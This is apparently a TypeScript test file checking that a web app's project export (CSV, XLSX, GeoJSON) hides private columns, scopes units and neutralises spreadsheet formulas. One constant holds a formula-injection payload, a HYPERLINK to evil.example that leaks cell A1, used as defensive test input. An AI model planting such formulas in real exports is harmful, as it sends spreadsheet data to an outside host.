import ExcelJS from 'exceljs';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp } from '../helpers/app.js';
import { loginAs, type TestSession } from '../helpers/auth.js';
import { areaIdNamed, createProject, pointFeature } from '../helpers/fixtures.js';

let app: FastifyInstance;
let planner: TestSession;
let unit: TestSession;
let shigu: number;
const INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")';

beforeAll(async () => {
  app = await startTestApp();
  planner = await loginAs(app, 'planner');
  unit = await loginAs(app, 'unit');
  shigu = await areaIdNamed(app, '石鼓区');
  await createProject(planner, pointFeature({ kind: 'streetlight', title: INJECTION, reporter_name: '导出测试人', address: '+86 路, "引号"' }));
});
afterAll(async () => {
  await app?.close();
});

async function listCount(session: TestSession | null, query: string): Promise<number> {
  const response = await (session ? session.inject(`/api/projects?limit=5000&${query}`) : app.inject(`/api/projects?limit=5000&${query}`));
  return response.json().numberReturned;
}

/** RFC 4180 lines, enough for these files: quoted fields may hold commas and doubled quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let field = '';
  let row: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') {
        quoted = false;
      } else {
        field += ch;
      }
    } else if (ch === '"') {
      quoted = true;
    } else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else {
      field += ch;
    }
  }
  return rows;
}

describe('exporting the current view', () => {
  it('as CSV: UTF-8 with a BOM, Chinese headers, the same projects as the list, formulas neutralised', async () => {
    const query = `area=${shigu}&kind=streetlight`;
    const response = await planner.inject(`/api/projects/export?format=csv&${query}`);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(/filename\*=UTF-8''%E6%B0%91%E7%94%9F/);
    expect(response.rawPayload.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(true);
    const rows = parseCsv(response.body.slice(1));
    expect(rows[0]!.slice(0, 5)).toEqual(['序号', '项目名称', '类型', '状态', '地址']);
    expect(rows[0]).toContain('上报人');
    expect(rows.length - 1).toBe(await listCount(planner, query));
    const injected = rows.find((r) => r[1]!.includes('HYPERLINK'))!;
    expect(injected[1]).toBe(`'${INJECTION}`);
    expect(injected[4]).toBe(`'+86 路, "引号"`);
    expect(injected).toContain('导出测试人');
  });

  it('leaves out the private columns for the public, and scopes a unit to its own projects', async () => {
    const publicCsv = parseCsv((await app.inject('/api/projects/export?format=csv')).body.slice(1));
    expect(publicCsv[0]).not.toContain('上报人');
    expect(publicCsv[0]).not.toContain('联系电话');
    expect(publicCsv[0]).not.toContain('内部备注');
    expect(publicCsv.flat()).not.toContain('导出测试人');
    const unitCsv = parseCsv((await unit.inject('/api/projects/export?format=csv')).body.slice(1));
    const unitName = unitCsv[0]!.indexOf('责任单位');
    expect(unitCsv.length - 1).toBe(await listCount(unit, ''));
    expect(new Set(unitCsv.slice(1).map((r) => r[unitName])).size).toBe(1);
  });

  it('as XLSX: one sheet with the header frozen, Chinese headers, text cells never formulas', async () => {
    const response = await planner.inject(`/api/projects/export?format=xlsx&area=${shigu}`);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toMatch(/spreadsheetml/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('项目台账')!;
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.getRow(1).getCell(2).value).toBe('项目名称');
    expect(sheet.getColumn(2).width).toBeGreaterThan(20);
    expect(sheet.rowCount - 1).toBe(await listCount(planner, `area=${shigu}`));
    let found = false;
    sheet.eachRow((row) => {
      const title = row.getCell(2).value;
      if (typeof title === 'string' && title.includes('HYPERLINK')) {
        found = true;
        expect(title.startsWith("'=")).toBe(true);
        expect(row.getCell(2).formula).toBeUndefined();
      }
    });
    expect(found).toBe(true);
  });

  it('as GeoJSON: a FeatureCollection of the same projects, private fields only for staff', async () => {
    const staff = (await planner.inject('/api/projects/export?format=geojson&kind=charging')).json();
    expect(staff.type).toBe('FeatureCollection');
    expect(staff.features).toHaveLength(await listCount(planner, 'kind=charging'));
    expect(staff.features[0].properties).toHaveProperty('reporter_name');
    const pub = (await app.inject('/api/projects/export?format=geojson&kind=charging')).json();
    expect(pub.features[0].properties).not.toHaveProperty('reporter_name');
  });

  it('refuses an unknown format or filter, naming it', async () => {
    for (const [query, field] of [['format=pdf', '/format'], ['kind=ufo', '/kind'], ['bbox=1,2', '/bbox']]) {
      const response = await app.inject(`/api/projects/export?${query}`);
      expect(response.statusCode).toBe(400);
      expect(response.json().errors[0].field).toBe(field);
    }
  });
});
